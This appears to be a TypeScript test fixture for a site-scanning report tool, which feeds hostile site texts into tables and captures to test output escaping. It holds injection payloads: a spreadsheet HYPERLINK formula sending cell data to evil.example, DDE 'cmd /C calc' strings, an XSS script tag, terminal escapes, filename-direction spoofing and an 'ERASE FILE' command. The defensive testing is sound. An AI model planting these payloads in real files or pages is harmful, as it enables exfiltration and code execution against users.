import type { Assertion } from "../../src/model/assertion.ts";
import type { Capture } from "../../src/model/capture.ts";
import type { Language } from "../../src/model/text.ts";
import { buildTable, type Table } from "../../src/report/table.ts";
import {
  aCapture,
  aFunctionFact,
  aHit,
  anAssertion,
  anEvidence,
  anInstrument,
  aQueryFact,
  aScan,
  aSite,
  aSiteList,
} from "./fixtures.ts";

/** Texts that a site could write to do harm where they are printed. */
export const HOSTILE = {
  formula: `=HYPERLINK("http://evil.example/?"&A1,"klik")`,
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  markup: `"><script>alert(1)</script><img src=x onerror=alert(2)>`,
  controls: "a\u0000b\u0007c\u001b[31mrood\u001b[0m\u0085d",
  direction: "\u202egnp.exe\u2066\u2069\u200f",
  halves: "half \ud83d en \udc00",
  escape: "_x0041_ en _x000D_",
  quotes: `a'b"c;d,e\r\nf.\nEXECUTE.\nERASE FILE='x'.`,
  long: "lang ".repeat(20_000),
} as const;

const ALL = Object.values(HOSTILE);

/** One site whose every text is hostile, in every place where texts of a site can stand. */
export function aHostileTable(language: Language = "nl"): Table {
  const sites = ALL.map((name, at) => aSite({ id: `s${at}`, name, url: `https://s${at}.example/`, owner: name }));
  const assertions = ALL.flatMap((text, at) => assertionsOf(`s${at}`, text));
  return buildTable(aScan(), aSiteList({ title: HOSTILE.markup, sites }), anInstrument(), assertions, { language });
}

export function hostileCaptures(): readonly Capture[] {
  return ALL.map((text, at) =>
    aCapture({
      site: aSite({ id: `s${at}`, name: text }),
      search: {
        functions: [
          {
            id: "s1",
            role: "site",
            roleBecause: text,
            recipe: {
              role: "site",
              page: `javascript:${text}`,
              open: [],
              field: "input",
              submit: "enter",
              label: text,
            },
            failure: null,
            before: null,
            queries: [
              {
                kind: "term",
                term: text,
                at: "2026-11-25T08:02:00.000Z",
                answers: [],
                failure: null,
                targets: [],
                stopped: "all-read",
              },
            ],
          },
        ],
        unprobed: [],
        detectors: [],
      },
    }),
  );
}

function assertionsOf(site: string, text: string): readonly Assertion[] {
  const url = `javascript:${text}`;
  const hit = aHit({ url, title: text, words: text, excerpt: text });
  return [
    anAssertion({
      site,
      criterion: "search-finds-social-work",
      outcome: "passed",
      facts: [
        aQueryFact({ term: text, outcome: "passed", read: 1, verified: 1, hit, answerUrl: url }),
        aFunctionFact({ label: text, page: url, positiveControl: text, negativeControl: text }),
      ],
      evidence: anEvidence({ url, excerpt: text, query: text, claimed: 1, verified: 1 }),
    }),
    anAssertion({
      site,
      criterion: "url-names-social-work",
      outcome: "cantTell",
      reason: "timeout",
      facts: [{ kind: "site", reason: "timeout", detail: text, url }],
    }),
    anAssertion({
      site,
      criterion: "colophon-names-social-work",
      facts: [
        {
          kind: "colophon",
          pages: [{ url, label: text, read: true, reason: null }],
          statement: null,
          near: [{ url, artifact: null, sentence: text, words: text, audience: text, pattern: "P4", footnote: false }],
        },
      ],
    }),
  ];
}
